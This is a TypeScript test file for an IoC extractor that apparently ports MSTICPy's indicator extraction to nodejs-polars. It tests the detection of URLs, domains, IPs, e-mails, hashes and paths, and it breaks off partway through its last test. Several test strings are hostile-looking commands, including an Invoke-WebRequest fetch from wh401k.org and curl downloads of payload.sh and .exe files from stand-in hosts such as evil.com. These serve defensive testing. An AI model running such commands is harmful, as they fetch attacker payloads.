import assert from "node:assert/strict";
import { test } from "node:test";
import pl from "nodejs-polars";
import { QueryProvider } from "../../src/data/queryProvider";
import { base64 } from "../../src/transform/base64Unpack";
import { BUILTIN_IOC_TYPES, IoCExtract, IocExtractError } from "../../src/transform/iocExtract";
import { refang } from "../../src/transform/defang";

const qp = new QueryProvider("LocalData");
const iocs = new IoCExtract();

type Row = { IoCType: string; Observable: string; SourceIndex: number; Input: string };
const rows = (df: pl.DataFrame) => df.toRecords() as unknown as Row[];

// ---------------------------------------------------------------- the lab's answers

test("lab: IoCs in the decoded command lines of processes_on_host.head(1000) (seed cell: microsoft.com, wh401k.org)", async () => {
  const procs = await qp.WindowsSecurity.list_host_processes();
  const b64 = base64.unpackDf(procs.head(1000), { column: "CommandLine" });
  const merged = procs
    .withRowIndex("SourceIndex")
    .join(b64, { leftOn: "SourceIndex", rightOn: "src_index" })
    .filter(pl.col("decoded_string").isNotNull())
    .select("SourceIndex", "TimeGenerated", "Account", "Computer", "NewProcessName", "CommandLine", "decoded_string");
  const found = rows(iocs.extract(merged, { columns: ["decoded_string"], indexColumn: "SourceIndex" }));
  // Reference: the seed walkthrough's output of ioc_extractor.extract(data=merged_filtered, columns=['decoded_string']).
  assert.deepEqual(
    found.map((r) => [r.IoCType, r.Observable, r.SourceIndex]),
    [
      ["dns", "microsoft.com", 21],
      ["dns", "wh401k.org", 968],
      ["url", "http://wh401k.org/getps", 968],
    ],
  );
  assert.equal(found[0].Input, "ping  microsoft.com -n 15 ");
  assert.match(found[2].Input, /^-Noninteractive -Noprofile -Command "Invoke-Expression Get-Process; Invoke-WebRequest -Uri http:\/\/wh401k\.org\/getps"$/);
});

test("lab: iocTypes ['url'] over syslog SyslogMessage gives exactly the seed's six unique values (URL hosts as dns)", async () => {
  const syslog = await qp.LinuxSyslog.list_all_syslog_events();
  const found = iocs.extract(syslog, { columns: ["SyslogMessage"], iocTypes: ["url"] });
  // Reference: the seed's ioc_df['Observable'].unique(), in order of first appearance.
  assert.deepEqual(found.getColumn("Observable").unique(true).toArray(), [
    "http://www.rsyslog.com/e/2359",
    "www.rsyslog.com",
    "http://www.rsyslog.com/e/2007",
    "http://www.rsyslog.com/e/2106",
    "http://www.microsoft.com",
    "www.microsoft.com",
  ]);
  assert.deepEqual([...new Set(found.getColumn("IoCType").toArray())].sort(), ["dns", "url"]);
  // The parity switch off: only what was asked for.
  const strict = iocs.extract(syslog, { columns: ["SyslogMessage"], iocTypes: ["url"], urlHostAsDns: false });
  assert.deepEqual(strict.getColumn("Observable").unique(true).toArray(), [
    "http://www.rsyslog.com/e/2359",
    "http://www.rsyslog.com/e/2007",
    "http://www.rsyslog.com/e/2106",
    "http://www.microsoft.com",
  ]);
  // SourceIndex points at the row the URL is in.
  const first = rows(found)[0];
  assert.equal(syslog.getColumn("SyslogMessage").get(first.SourceIndex), first.Input);
  assert.ok(first.Input.includes(first.Observable));
});

test("lab bonus: dns IoCs of the decoded syslog base64 (full_decoded_string) — www.github.com at SourceIndex 9", async () => {
  const syslog = await qp.LinuxSyslog.list_all_syslog_events();
  const decoded = base64.unpackDf(syslog, { column: "SyslogMessage" });
  const found = rows(iocs.extract(decoded, { columns: ["full_decoded_string"], iocTypes: ["dns"] }));
  // Reference: the seed's output (one row: dns www.github.com, SourceIndex 9, the tagged string).
  assert.deepEqual(found.map((r) => [r.IoCType, r.Observable, r.SourceIndex]), [["dns", "www.github.com", 9]]);
  assert.ok(found[0].Input.startsWith("<decoded type='string' name='[None]' index='1' depth='1'>The secret URI is www.github.com/microsoft/msticpy"));
});

test("processes_on_host: null CommandLines are empty text, SourceIndex is the row position", async () => {
  const procs = await qp.WindowsSecurity.list_host_processes();
  assert.ok(procs.getColumn("CommandLine").nullCount() > 0, "the lab data has null command lines");
  const found = iocs.extract(procs, { columns: ["CommandLine"] });
  assert.ok(found.height > 100);
  const cmd = procs.getColumn("CommandLine");
  for (const r of rows(found).filter((_r, i) => i % 97 === 0)) assert.equal(cmd.get(r.SourceIndex), r.Input);
  // The injected lab indicators are there.
  const obs = new Set(found.getColumn("Observable").toArray() as unknown as string[]);
  for (const o of ["http://wh401k.org/getps", "wh401k.org", "ianhelle@microsoft.com", "168.63.129.16"]) assert.ok(obs.has(o), o);
  // Deliberate difference: a word-bounded TLD, so `x.ps1` is not the Palestinian domain `x.ps`.
  assert.ok(![...obs].some((o) => /\.ps$/i.test(o)));
  assert.equal(found.getColumn("SourceIndex").dtype.variant, "UInt32");
});

// ---------------------------------------------------------------- types and their edges

test("defanged forms are recognised and refanged", () => {
  const r = iocs.extractText("get hxxp://evil[.]com/x then hXXps://b(.)org/y, mail bob[at]evil[.]com, c2 10[.]1[.]2[.]3, fxp://files[.]example[.]net/a");
  assert.deepEqual(r.url, ["http://evil.com/x", "https://b.org/y", "ftp://files.example.net/a"]);
  assert.deepEqual(r.email, ["bob@evil.com"]);
  assert.deepEqual(r.ipv4, ["10.1.2.3"]);
  assert.ok(r.dns.includes("evil.com") && r.dns.includes("b.org"));
  assert.equal(refang("evil[dot]com (at) x{.}y hxxps[://]z"), "evil.com @ x.y https://z");
  assert.equal(refang("nothing here"), "nothing here");
});

test("IPv4: octets validated, no partial numbers, no leading zeros", () => {
  const r = iocs.extractText("1.2.3.4 256.1.1.1 999.999.999.999 1.2.3.4.5 1234.1.1.1234 v10.0.0.1 192.168.001.1 0.0.0.0 (8.8.8.8).");
  // `v10.0.0.1` is a version, not an address (glued to a letter: see iocGlued.test.ts).
  assert.deepEqual(r.ipv4, ["1.2.3.4", "0.0.0.0", "8.8.8.8"]);
});

test("IPv6 via a real parser: addresses yes, times and MAC addresses no", () => {
  const r = iocs.extractText("::1 and 2001:db8::1, fe80::1%eth0, 2001:0db8:0000:0000:0000:ff00:0042:8329 at 12:34:56 from 00:1A:2B:3C:4D:5E; std::vector :: x");
  assert.deepEqual(r.ipv6, ["::1", "2001:db8::1", "fe80::1", "2001:0db8:0000:0000:0000:ff00:0042:8329"]);
});

test("dns: public-suffix TLDs only (ICANN), whole labels, trailing dots and escapes", () => {
  const r = iocs.extractText("Microsoft.NET cmd.exe host.local a.b evil.zip x.co.uk. foo.comx %2Fbad.org xn--80ak6aa92e.xn--p1ai a-b--c.com -bad-.com");
  assert.deepEqual(r.dns, ["Microsoft.NET", "evil.zip", "x.co.uk", "bad.org", "xn--80ak6aa92e.xn--p1ai", "a-b--c.com"]);
  assert.deepEqual(iocs.extractText("cmd.exe host.local", { ignoreTlds: true }).dns, ["cmd.exe", "host.local"]);
});

test("dns: an escaped host character is part of its label, so the rest of the label is no domain (ev%69l.com is not l.com)", () => {
  // Obfuscated hosts: the decoded URL gives evil.com; the raw text must not give l.com or vil.com, other people's domains.
  const r = iocs.extractText("http://ev%69l.com/a http://%65vil.org/b http://%77%77%77.bad.net/ %2Fok.com %41.also.com");
  assert.deepEqual([...r.dns].sort(), ["also.com", "bad.net", "evil.com", "evil.org", "ok.com", "www.bad.net"]);
});

test("url: an escaped /, ?, # or : right after the host ends the host; the URL is kept, and found again decoded (it was dropped)", () => {
  const r = iocs.extractText("curl http://evil.com%2Fpayload.sh; curl http://bad.org%2fa%2fb.exe -o x; http://c.net%3A8080/x http://d.io%3Fq=1");
  assert.deepEqual(r.url, [
    "http://evil.com%2Fpayload.sh",
    "http://evil.com/payload.sh",
    "http://bad.org%2fa%2fb.exe",
    "http://bad.org/a/b.exe",
    "http://c.net%3A8080/x",
    "http://c.net:8080/x",
    "http://d.io%3Fq=1",
    "http://d.io?q=1",
  ]);
  // After a port, and after an [IPv6] host, too.
  assert.deepEqual(iocs.extractText("get http://evil.com:8080%2Fpayload.sh and http://[::1]%2Fp now").url, ["http://evil.com:8080%2Fpayload.sh", "http://evil.com:8080/payload.sh", "http://[::1]%2Fp", "http://[::1]/p"]);
});

test("url: escapes in the user part stay as written in the decoded URL (a decoded %40 made the password a host: http://user:p@ss)", () => {
  // The user info itself shows as *** (a captured password shows nowhere: urlUserInfo.test.ts); the host stays evil.com.
  assert.deepEqual(iocs.extractText("see http://user:p%40ss@evil.com/a%2Fb and ftp://us%3Aer%2F@10.1.2.3/f%20g").url, [
    "http://***@evil.com/a%2Fb",
    "http://***@evil.com/a/b",
    "ftp://***@10.1.2.3/f%20g",
    "ftp://***@10.1.2.3/f",
  ]);
});

test("url: schemes, user info, ports, queries, trailing punctuation, URL decoding, embedded URLs", () => {
  const r = iocs.extractText(
    "see (http://a.com/x_(y)) and 'https://user:pw@b.org:8443/p?q=1&r=2#f', http://c.net/z. " +
      "ftp://10.1.2.3/f http://[2001:db8::1]/v http://server/local https://d.io/r?u=https%3A%2F%2Fevil.com%2Fpayload",
  );
  assert.deepEqual(r.url, [
    "http://a.com/x_(y)",
    "https://***@b.org:8443/p?q=1&r=2#f",
    "http://c.net/z",
    "ftp://10.1.2.3/f",
    "http://[2001:db8::1]/v",
    "http://server/local",
    "https://d.io/r?u=https%3A%2F%2Fevil.com%2Fpayload",
    "https://d.io/r?u=https://evil.com/payload",
    "https://evil.com/payload",
  ]);
  // `user:pw@b.org` is not an e-mail address; URL hosts are dns, IP hosts are not.
  assert.equal(r.email, undefined);
  assert.ok(r.dns.includes("evil.com") && r.dns.includes("b.org") && !r.dns.includes("10.1.2.3"));
  // An intranet host is a URL host (issue #12), but not a dns observable.
  assert.ok(!r.dns.includes("server"));
  assert.deepEqual(iocs.extractText("http://server/local", { ignoreTlds: true }), { url: ["http://server/local"] });
});

// A full-width `．` or `＋` (an address typed in an IME's full-width mode) ended the local part: the address was
// reported cut to `ｎａｍｅ@example.com`, someone else's. Reported whole, as written (TI looks it up in NFKC).
test("email: a full-width local part is found whole, its dots and plus included", () => {
  const user = "\uff55\uff53\uff45\uff52\uff0e\uff4e\uff41\uff4d\uff45";
  const r = new IoCExtract().extractText(`from=${user}@example.com to=\uff46\uff0b\uff54@corp.example.org, cc=\uff0e\uff41@example.com`);
  assert.deepEqual(r.email, [`${user}@example.com`, "\uff46\uff0b\uff54@corp.example.org", "\uff41@example.com"]);
  // A full-width dot ending the local part makes no address (as `a.@x.com`).
  assert.equal(new IoCExtract().extractText("to \uff41\uff0e@example.com").email, undefined);
});

// A full-width at sign (U+FF20: an IME's full-width mode, or an address written so that harvesters miss it) made no
// address: `user＠example.com` gave only the dns `example.com`. NFKC reads it as `@`, as it reads a full-width local part
// (last session): the address is found as written, and TI looks it up as user@example.com (tiNormalise). In a URL's
// authority it is no at sign: WHATWG URL refuses `http://user＠evil.com/`, and no address is made of its user info.
test("email: a full-width at sign is an at sign, as NFKC reads it; not in a URL's authority", () => {
  const r = new IoCExtract().extractText("mail user\uff20example.com, from:\uff55\uff53\uff45\uff52\uff0e\uff4e\uff41\uff4d\uff45\uff20corp.example.org; cc=o'brien\uff20evil.com.");
  assert.deepEqual(r.email, ["user\uff20example.com", "\uff55\uff53\uff45\uff52\uff0e\uff4e\uff41\uff4d\uff45\uff20corp.example.org", "o'brien\uff20evil.com"]);
  // Defanged forms read alike (they come back refanged).
  assert.deepEqual(new IoCExtract().extractText("user[@]example[.]com").email, ["user@example.com"]);
  // Not an address: a URL's user info (new URL refuses these), an at sign with nothing of an address before it
  // (`＠user`, a Han word: `会議＠東京` is "a meeting at Tokyo"), or no domain after it.
  for (const text of ["http://user\uff20evil.com/x", "hxxp://a:pw\uff20evil[.]com/", "see //x.y\uff20evil.com", "\uff20user.example.com", "\u4f1a\u8b70\uff20\u6771\u4eac", "a\uff20b", "a\uff20\uff20b.com"]) {
    assert.equal(new IoCExtract().extractText(text).email, undefined, text);
  }
  // Nor a URL cut at the at sign (`http://user`, another host): new URL refuses them whole.
  for (const text of ["http://user\uff20evil.com/x", "http://a:pw\uff20evil.com/", "https://ok@user\uff20evil.com/"]) {
    assert.throws(() => new URL(text), text);
    assert.equal(new IoCExtract().extractText(text).url, undefined, text);
  }
  assert.deepEqual(new IoCExtract().extractText("http://evil.com/x\uff20y").url, ["http://evil.com/x\uff20y"]);
  // Screened by polars (the e-mail prefilter) like an `@`: a DataFrame finds it too.
  const df = pl.DataFrame({ t: ["nothing here", "mail user\uff20example.com"] });
  const rows = new IoCExtract().extract(df, { columns: "t", iocTypes: ["email"] }).toRecords() as { Observable: string; SourceIndex: number }[];
  assert.deepEqual(rows.map((row) => [row.SourceIndex, row.Observable]), [[1, "user\uff20example.com"]]);
});

// Mathematical alphanumeric letters (U+1D400 block: 𝐚𝐝𝐦𝐢𝐧) fold to ASCII in NFKC, and IDNA maps them in host names, but
// they are no host characters to the scanners (`http://𝐞𝐯𝐢𝐥.com/` is no URL, `𝐞𝐯𝐢𝐥.com` no domain): e-mail is decided
// alike, refused, not folded. What was wrong: the local part ended at such a letter, so `𝐚𝐝𝐦𝐢𝐧x@example.com` was
// reported as `x@example.com`, someone else's address (as `micrоsoft.com` was cut to soft.com before the glue rule).
test("email: mathematical letters make no address, and never a cut one", () => {
  const admin = "\u{1d41a}\u{1d41d}\u{1d426}\u{1d422}\u{1d427}";
  for (const text of [`${admin}@example.com`, `to ${admin}x@example.com`, `to x.${admin}.y@example.com`, "to bob@example.com\u{1d431}", `to ${admin}\uff20example.com`]) {
    assert.equal(new IoCExtract().extractText(text).email, undefined, text);
  }
  // Other addresses around them are found.
  assert.deepEqual(new IoCExtract().extractText(`${admin} bob@example.com ${admin}`).email, ["bob@example.com"]);
});

test("email: address shapes, key=value prefixes, TLD checked", () => {
  const r = iocs.extractText("to=bob.smith+tag@mail.example.com, x.@y.com, a@b, admin@host.local, mailto:root@evil.org.");
  assert.deepEqual(r.email, ["bob.smith+tag@mail.example.com", "root@evil.org"]);
});

test("hashes: exact hex-run lengths, adjacent hashes both found, hex runs of other lengths ignored", () => {
  const md5 = "d41d8cd98f00b204e9800998ecf8427e";
  const sha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709";
  const sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
  const r = iocs.extractText(`${md5} ${sha1}:${sha256} ${"a".repeat(48)} ${md5}0 ${md5.toUpperCase()},${md5.slice(1)}f`);
  assert.deepEqual(r.md5_hash, [md5, md5.toUpperCase(), `${md5.slice(1)}f`]);
  assert.deepEqual(r.sha1_hash, [sha1]);
  assert.deepEqual(r.sha256_hash, [sha256]);
});

test("windows paths: spaces in folders, UNC, drive roots after NT prefixes, quotes; not in the default set", () => {
  const text =
    '"C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\MonitoringHost.exe" -x \\\\server\\share\\f.txt ' +
    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff ..\\rel\\path.dll \\x C:\\Temp\\a.exe C:\\Temp\\b.exe.";
  assert.equal(iocs.extractText(text).windows_path, undefined);
  assert.deepEqual(iocs.extractText(text, { includePaths: true }).windows_path, [
    "C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\MonitoringHost.exe",
    "\\\\server\\share\\f.txt",
    "C:\\Windows\\system32\\conhost.exe",
    "..\\rel\\path.dll",
    "C:\\Temp\\a.exe",
    "C:\\Temp\\b.exe",
  ]);
});

test("windows paths: a PowerShell drive (HKLM:, Cert:, env:) lends no drive letter; a drive after a `key:` keeps it", () => {
  const text =
    "reg HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /d C:\\x\\y.exe; Set-Location Cert:\\LocalMachine\\My; " +
    "Get-Content env:\\Path; Image:C:\\Windows\\System32\\cmd.exe x86:D:\\Tools\\a.exe";
  assert.deepEqual(iocs.extractText(text, { includePaths: true }).windows_path, [
    "\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
    "C:\\x\\y.exe",
    "\\LocalMachine\\My",
    "C:\\Windows\\System32\\cmd.exe",
    "D:\\Tools\\a.exe",
  ]);
  assert.equal(iocs.getIocType("HKCU:\\Software\\Classes\\x"), "unknown");
});

test("linux paths: only when asked for; not inside URLs or words; flags are not paths", () => {
  const text = "/bin/sh -c '/usr/bin/python3 /opt/x/y.py' and/or http://x.com/a/b ./run.sh /c ~/.ssh/id_rsa";
  assert.equal(iocs.extractText(text, { includePaths: true }).linux_path, undefined);
  assert.deepEqual(iocs.extractText(text, { iocTypes: ["linux_path"] }).linux_path, ["/bin/sh", "/usr/bin/python3", "/opt/x/y.py", "./run.sh", "~/.ssh/id_rsa"]);
});

test("priority: one string is reported once, under the most specific type", () => {
  const x = new IoCExtract();
  x.addIocType("ticket", /\bTKT-\d{4}\b/, 1);
  x.addIocType("host_like", "[a-z]+\\.com", 5); // same strings as dns, lower priority → dns wins
  const r = x.extractText("TKT-1234 example.com", { iocTypes: ["dns", "ticket", "host_like"] });
  assert.deepEqual(r, { dns: ["example.com"], ticket: ["TKT-1234"] });
  const hi = new IoCExtract();
  hi.addIocType("corp_domain", /[a-z]+\.com/, 0); // higher than dns (2)
  assert.deepEqual(hi.extractText("example.com", { iocTypes: ["dns", "corp_domain"] }), { corp_domain: ["example.com"] });
  // Types are per instance.
  assert.ok(!iocs.iocTypes.includes("ticket"));
});

test("user types in DataFrames, with a group and a prefilter; several columns keep row then column order", () => {
  const x = new IoCExtract();
  x.addIocType("ticket", /ticket=(TKT-\d+)/, 1, { group: 1, prefilter: "ticket=" });
  const df = pl.DataFrame({
    a: ["ticket=TKT-1 at 1.2.3.4", null, "nothing", "evil.com"],
    b: ["evil.com", "ticket=TKT-2", null, "evil.com 5.6.7.8"],
    n: [10, 20, 30, 40],
  });
  const out = rows(x.extract(df, { columns: ["a", "b"], iocTypes: ["ipv4", "dns", "ticket"], indexColumn: "n" }));
  assert.deepEqual(
    out.map((r) => [r.SourceIndex, r.IoCType, r.Observable, r.Input]),
    [
      [10, "ipv4", "1.2.3.4", "ticket=TKT-1 at 1.2.3.4"],
      [10, "ticket", "TKT-1", "ticket=TKT-1 at 1.2.3.4"],
      [10, "dns", "evil.com", "evil.com"],
      [20, "ticket", "TKT-2", "ticket=TKT-2"],
      [40, "dns", "evil.com", "evil.com"],
      [40, "ipv4", "5.6.7.8", "evil.com 5.6.7.8"],
      [40, "dns", "evil.com", "evil.com 5.6.7.8"],
    ],
  );
});

test("bulk and row-by-row scanning agree (NUL in the data, defanged rows, many rows)", () => {
  const base = [
    "ping 10.0.0.1 && curl http://a.com/x?u=http%3A%2F%2Fb.org%2F",
    "mail a@b.com then user:pw@c.com via https://user:pw@d.net/",
    "C:\\Windows\\x.exe /c /tmp/a/b 2001:db8::2",
    "hxxp://evil[.]com/y",
    `${"d41d8cd98f00b204e9800998ecf8427e"} ${"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}`,
    "",
  ];
  const many = Array.from({ length: 3000 }, (_v, i) => base[i % base.length] + (i % 7 ? "" : ` host${i}.example.org`));
  const all = { iocTypes: BUILTIN_IOC_TYPES };
  const expected = many.flatMap((text, row) => Object.entries(iocs.extractText(text, all)).flatMap(([type, obs]) => obs.map((o) => [row, type, o])));
  const bulk = rows(iocs.extract(pl.DataFrame({ t: many }), { columns: "t", ...all })).map((r) => [r.SourceIndex, r.IoCType, r.Observable]);
  assert.deepEqual(bulk, expected);
  // A NUL in the column switches to row-by-row scanning: same answers.
  const withNul = many.map((t, i) => (i === 5 ? "x\0y" : t));
  const rowwise = rows(iocs.extract(pl.DataFrame({ t: withNul }), { columns: ["t"], ...all })).map((r) => [r.SourceIndex, r.IoCType, r.Observable]);
  assert.deepEqual(rowwise, expected);
});

test("getIocType and validate classify whole values", () => {
  assert.equal(iocs.getIocType("evil[.]com"), "dns");
  assert.equal(iocs.getIocType("10.1.2.3"), "ipv4");
  assert.equal(iocs.getIocType("http://a.com/x"), "url");
  assert.equal(iocs.getIocType("d41d8cd98f00b204e9800998ecf8427e"), "md5_hash");
  assert.equal(iocs.getIocType("cmd.exe"), "unknown");
  assert.equal(iocs.getIocType("C:\\Windows\\x.exe"), "windows_path");
  assert.ok(iocs.validate("example.com", "dns"));
  assert.ok(!iocs.validate("example.com/x", "dns"));
  assert.ok(!iocs.validate("host.local", "dns"));
  assert.ok(iocs.validate("host.local", "dns", { ignoreTlds: true }));
  assert.throws(() => iocs.validate("x", "dnss"), { code: "transform/unknown-ioc-type", message: /"dnss".*Did you mean dns/ });
});

test("errors name what is wrong", () => {
  const df = pl.DataFrame({ CommandLine: ["a"] });
  assert.throws(
    () => iocs.extract(df, { columns: ["Commandline"] }),
    (e: unknown) => e instanceof IocExtractError && e.code === "transform/ioc-column-missing" && /"Commandline" .*Did you mean CommandLine/.test(e.message),
  );
  assert.throws(() => iocs.extract(df, { columns: [] }), { name: "IocExtractError", code: "transform/ioc-no-columns", message: /columns/ });
  assert.throws(() => iocs.extractText("x", { iocTypes: ["ipv5"] }), { code: "transform/unknown-ioc-type", message: /"ipv5".*Did you mean ipv4, ipv6/ });
  assert.throws(() => iocs.addIocType("x", "a*"), { code: "transform/ioc-pattern-invalid", message: /"x"/ });
  assert.throws(() => iocs.addIocType("x", "("), { code: "transform/ioc-pattern-invalid", message: /"x"/ });
  assert.throws(() => iocs.extract(df, { columns: ["CommandLine"], indexColumn: "idx" }), { code: "transform/ioc-column-missing", message: /indexColumn "idx"/ });
  // Untyped callers (a JavaScript cell, MSTICPy habits): no options, or a string (a bare TypeError from inside).
  const untyped = iocs as unknown as { extract: (...args: unknown[]) => unknown };
  assert.throws(() => untyped.extract(df), { code: "transform/ioc-no-columns" });
  assert.throws(() => untyped.extract("see evil.com"), { code: "transform/ioc-not-a-frame", message: /not text \(12 characters\); extractText\(text\)/ });
  // A misspelt option was ignored: every type scanned, or paths left out.
  assert.throws(() => iocs.extract(df, { columns: ["CommandLine"], ioc_types: ["url"] } as never), { code: "transform/ioc-option", message: /^extract: unknown option ioc_types \(did you mean iocTypes\?\)/ });
  assert.throws(() => iocs.extractText("x", { includepaths: true } as never), { code: "transform/ioc-option", message: /^extractText: unknown option includepaths \(did you mean includePaths\?\)/ });
  assert.throws(() => iocs.extractText("x", { columns: ["c"] } as never), { code: "transform/ioc-option", message: /extractText: unknown option columns/ });
  assert.throws(() => new IoCExtract({ defang: false } as never), { code: "transform/ioc-option", message: /^new IoCExtract: unknown option defang \(did you mean defanged\?\)/ });
});

test("plain JavaScript input: extractText of a list is refused (its URL was missed: the URL screen looked in the array, the patterns in its joined text); other non-text is refused, not a TypeError", () => {
  const untyped = iocs as unknown as { extractText: (...args: unknown[]) => unknown; extract: (...args: unknown[]) => unknown };
  const many = /^extractText: scans one string, not (an array of 2 values|a DataFrame); for a DataFrame use extract\(df, \{ columns: \["CommandLine"\] \}\), for a list of texts extract\(pl\.DataFrame/;
  assert.throws(() => untyped.extractText(["http://evil.com/a", "1.2.3.4"]), { name: "IocExtractError", code: "transform/ioc-not-text", message: many });
  assert.throws(() => untyped.extractText(pl.DataFrame({ t: ["http://evil.com/a"] })), { code: "transform/ioc-not-text", message: many });
  assert.throws(() => untyped.extractText(1234), { code: "transform/ioc-not-text", message: /^extractText: scans one string, not a number \(1234\)\.$/ });
  assert.throws(() => untyped.extractText({ text: "evil.com" }), { code: "transform/ioc-not-text", message: /not a plain object \(one row\? make a DataFrame of it: `pl\.DataFrame\(\[row\]\)`\)\.$/ });
  assert.deepEqual(untyped.extractText(undefined), {});
  // What the list's texts give, one by one and in a frame.
  assert.deepEqual(iocs.extractText("http://evil.com/a 1.2.3.4"), { url: ["http://evil.com/a"], dns: ["evil.com"], ipv4: ["1.2.3.4"] });
  // Not a frame: what to do with a Promise or a LazyFrame.
  assert.throws(() => untyped.extract(Promise.resolve(pl.DataFrame({ t: ["x"] })), { columns: ["t"] }), { code: "transform/ioc-not-a-frame", message: /not a Promise: a query \(or another async call\) not awaited; put `await` before it/ });
  assert.throws(() => untyped.extract(pl.DataFrame({ t: ["x"] }).lazy(), { columns: ["t"] }), { code: "transform/ioc-not-a-frame", message: /not a LazyDataFrame: collect it first/ });
});

test("plain JavaScript options: one IoC type as text is one type (it was scanned letter by letter), positional columns or types name the options object, values of the wrong kind are refused", () => {
  const df = pl.DataFrame({ c: ["see http://evil.com/x and 1.2.3.4"] });
  const untyped = iocs as unknown as { extractText: (...args: unknown[]) => unknown; extract: (...args: unknown[]) => pl.DataFrame };
  assert.deepEqual(rows(iocs.extract(df, { columns: "c", iocTypes: "url" })).map((r) => r.Observable), ["http://evil.com/x", "evil.com"]);
  assert.deepEqual(iocs.extractText("see http://evil.com/x and 1.2.3.4", { iocTypes: "ipv4" }), { ipv4: ["1.2.3.4"] });
  assert.deepEqual(new IoCExtract({ iocTypes: "ipv4" }).extractText("see http://evil.com/x and 1.2.3.4"), { ipv4: ["1.2.3.4"] });
  // MSTICPy's positional arguments read as an option named 0.
  assert.throws(() => untyped.extract(df, ["c"]), { code: "transform/ioc-option", message: /^extract: the second argument is an options object such as \{ columns: \["CommandLine"\] \}, not an array of 1 value\.$/ });
  assert.throws(() => untyped.extractText("x", ["ipv4"]), { code: "transform/ioc-option", message: /^extractText: the second argument is an options object such as \{ iocTypes: \["ipv4"\] \}/ });
  assert.throws(() => untyped.extractText("x", null), { code: "transform/ioc-option", message: /not null\.$/ });
  const bad: [unknown, RegExp][] = [
    [{ columns: 5 }, /^extract: option columns must be a column name or a list of them \(e\.g\. \["CommandLine"\]\) \(got 5\)\.$/],
    [{ columns: [undefined] }, /option columns must be a column name or a list of them/],
    [{ columns: "c", iocTypes: [4] }, /option iocTypes must be an IoC type name or a list of them/],
    [{ columns: "c", indexColumn: 0 }, /option indexColumn must be one column name \(text\) \(got 0\)/],
    [{ columns: "c", includePaths: "yes" }, /option includePaths must be true or false \(got "yes"\)/],
  ];
  for (const [options, message] of bad) assert.throws(() => untyped.extract(df, options), { code: "transform/ioc-option", message }, JSON.stringify(options));
  assert.throws(() => new IoCExtract({ defanged: "no" } as never), { code: "transform/ioc-option", message: /^new IoCExtract: option defanged must be true or false \(got "no"\)\.$/ });
  const x = new IoCExtract() as unknown as { addIocType: (...args: unknown[]) => void };
  assert.throws(() => x.addIocType(undefined, "x"), { code: "transform/ioc-type-name-empty", message: /^addIocType: the type name must be text, not undefined \(a variable never set, or a call that returned nothing\)\.$/ });
  assert.throws(() => x.addIocType("ticket", 5), { code: "transform/ioc-pattern-invalid", message: /^addIocType\("ticket"\): invalid pattern: the pattern must be a RegExp or text, not a number \(5\)$/ });
});

test("addIocType: a priority extract and extractText would rank differently, or a prefilter polars cannot run, is refused naming the type", () => {
  const x = new IoCExtract();
  for (const p of [-0.5, 3e9, Infinity, NaN]) assert.throws(() => x.addIocType("ticket", /INC-\d+/, p), { code: "transform/ioc-option", message: /"ticket".*priority/ }, String(p));
  // A JavaScript look-behind and an unclosed group: polars' engine gave nulls, and extract failed later with a bare polars error.
  for (const f of ["(?<=ticket )INC", "INC-("]) assert.throws(() => x.addIocType("ticket", /INC-\d+/, 0, { prefilter: f }), { code: "transform/ioc-option", message: /"ticket".*prefilter/ }, f);
  // A misspelt option: the whole match was reported instead of the group.
  assert.throws(() => x.addIocType("ticket", /ticket=(\w+)/, 1, { grop: 1 } as never), { code: "transform/ioc-option", message: /^addIocType\("ticket"\): unknown option grop \(did you mean group\?\)/ });
  x.addIocType("ticket", /INC-\d+/, -3, { prefilter: "INC-[0-9]" });
  assert.deepEqual(x.extractText("see INC-42", { iocTypes: ["ticket"] }), { ticket: ["INC-42"] });
});

test("addIocType: a priority given as text, options given third, or a group the pattern lacks is refused saying what it is (a text priority was 'priority 5 is not a whole number'; group \"1\", 1.5 or 2 of a one-group pattern was taken and reported nothing)", () => {
  const x = new IoCExtract() as unknown as { addIocType: (...args: unknown[]) => void };
  assert.throws(() => x.addIocType("ticket", /INC-\d+/, "5"), { code: "transform/ioc-option", message: /^addIocType\("ticket"\): priority "5" \(text\) is not a whole number/ });
  assert.throws(() => x.addIocType("ticket", /ticket=(\w+)/, { group: 1 }), { code: "transform/ioc-option", message: /^addIocType\("ticket"\): the third argument is the priority, a whole number; options go fourth: addIocType\("ticket", pattern, 0, \{"group":1\}\)\.$/ });
  const bad: [unknown, RegExp][] = [
    [{ group: "1" }, /^addIocType\("ticket"\): option group "1" is no capture group of the pattern \(it has 1: numbers 1 to 1\)/],
    [{ group: 2 }, /option group 2 is no capture group of the pattern \(it has 1: numbers 1 to 1\)/],
    [{ group: "id" }, /option group "id" is no capture group/],
    [{ group: 1.5 }, /option group must be a whole number of at least 0 or text/],
    [{ group: -1 }, /option group must be a whole number of at least 0 or text/],
    [{ prefilter: 5 }, /option prefilter must be text/],
  ];
  for (const [options, message] of bad) assert.throws(() => x.addIocType("ticket", /ticket=(\w+)/, 1, options), { code: "transform/ioc-option", message }, JSON.stringify(options));
  // Groups the pattern has, by number and by name, still report that group.
  const y = new IoCExtract();
  y.addIocType("ticket", /ticket=(\w+)/, 1, { group: 1 });
  y.addIocType("case", /case=(?<id>\w+)/, 1, { group: "id" });
  assert.deepEqual(y.extractText("ticket=T1 case=C2", { iocTypes: ["ticket", "case"] }), { ticket: ["T1"], case: ["C2"] });
});

test("custom types named like Object members (__proto__, constructor) are reported by extractText as by extract", () => {
  const x = new IoCExtract();
  x.addIocType("__proto__", /INC-\d+/);
  x.addIocType("constructor", /CASE-\d+/);
  const found = x.extractText("INC-1 and CASE-2", { iocTypes: ["__proto__", "constructor"] });
  assert.deepEqual(Object.entries(found), [["__proto__", ["INC-1"]], ["constructor", ["CASE-2"]]]);
  const rows = x.extract(pl.DataFrame({ t: ["INC-1 and CASE-2"] }), { columns: "t", iocTypes: ["__proto__", "constructor"] }).toRecords() as { IoCType: string }[];
  assert.deepEqual(rows.map((r) => r.IoCType), ["__proto__", "constructor"]);
});

test("empty input, empty frames, non-text columns", () => {
  assert.deepEqual(iocs.extractText(""), {});
  assert.deepEqual(iocs.extractText(null), {});
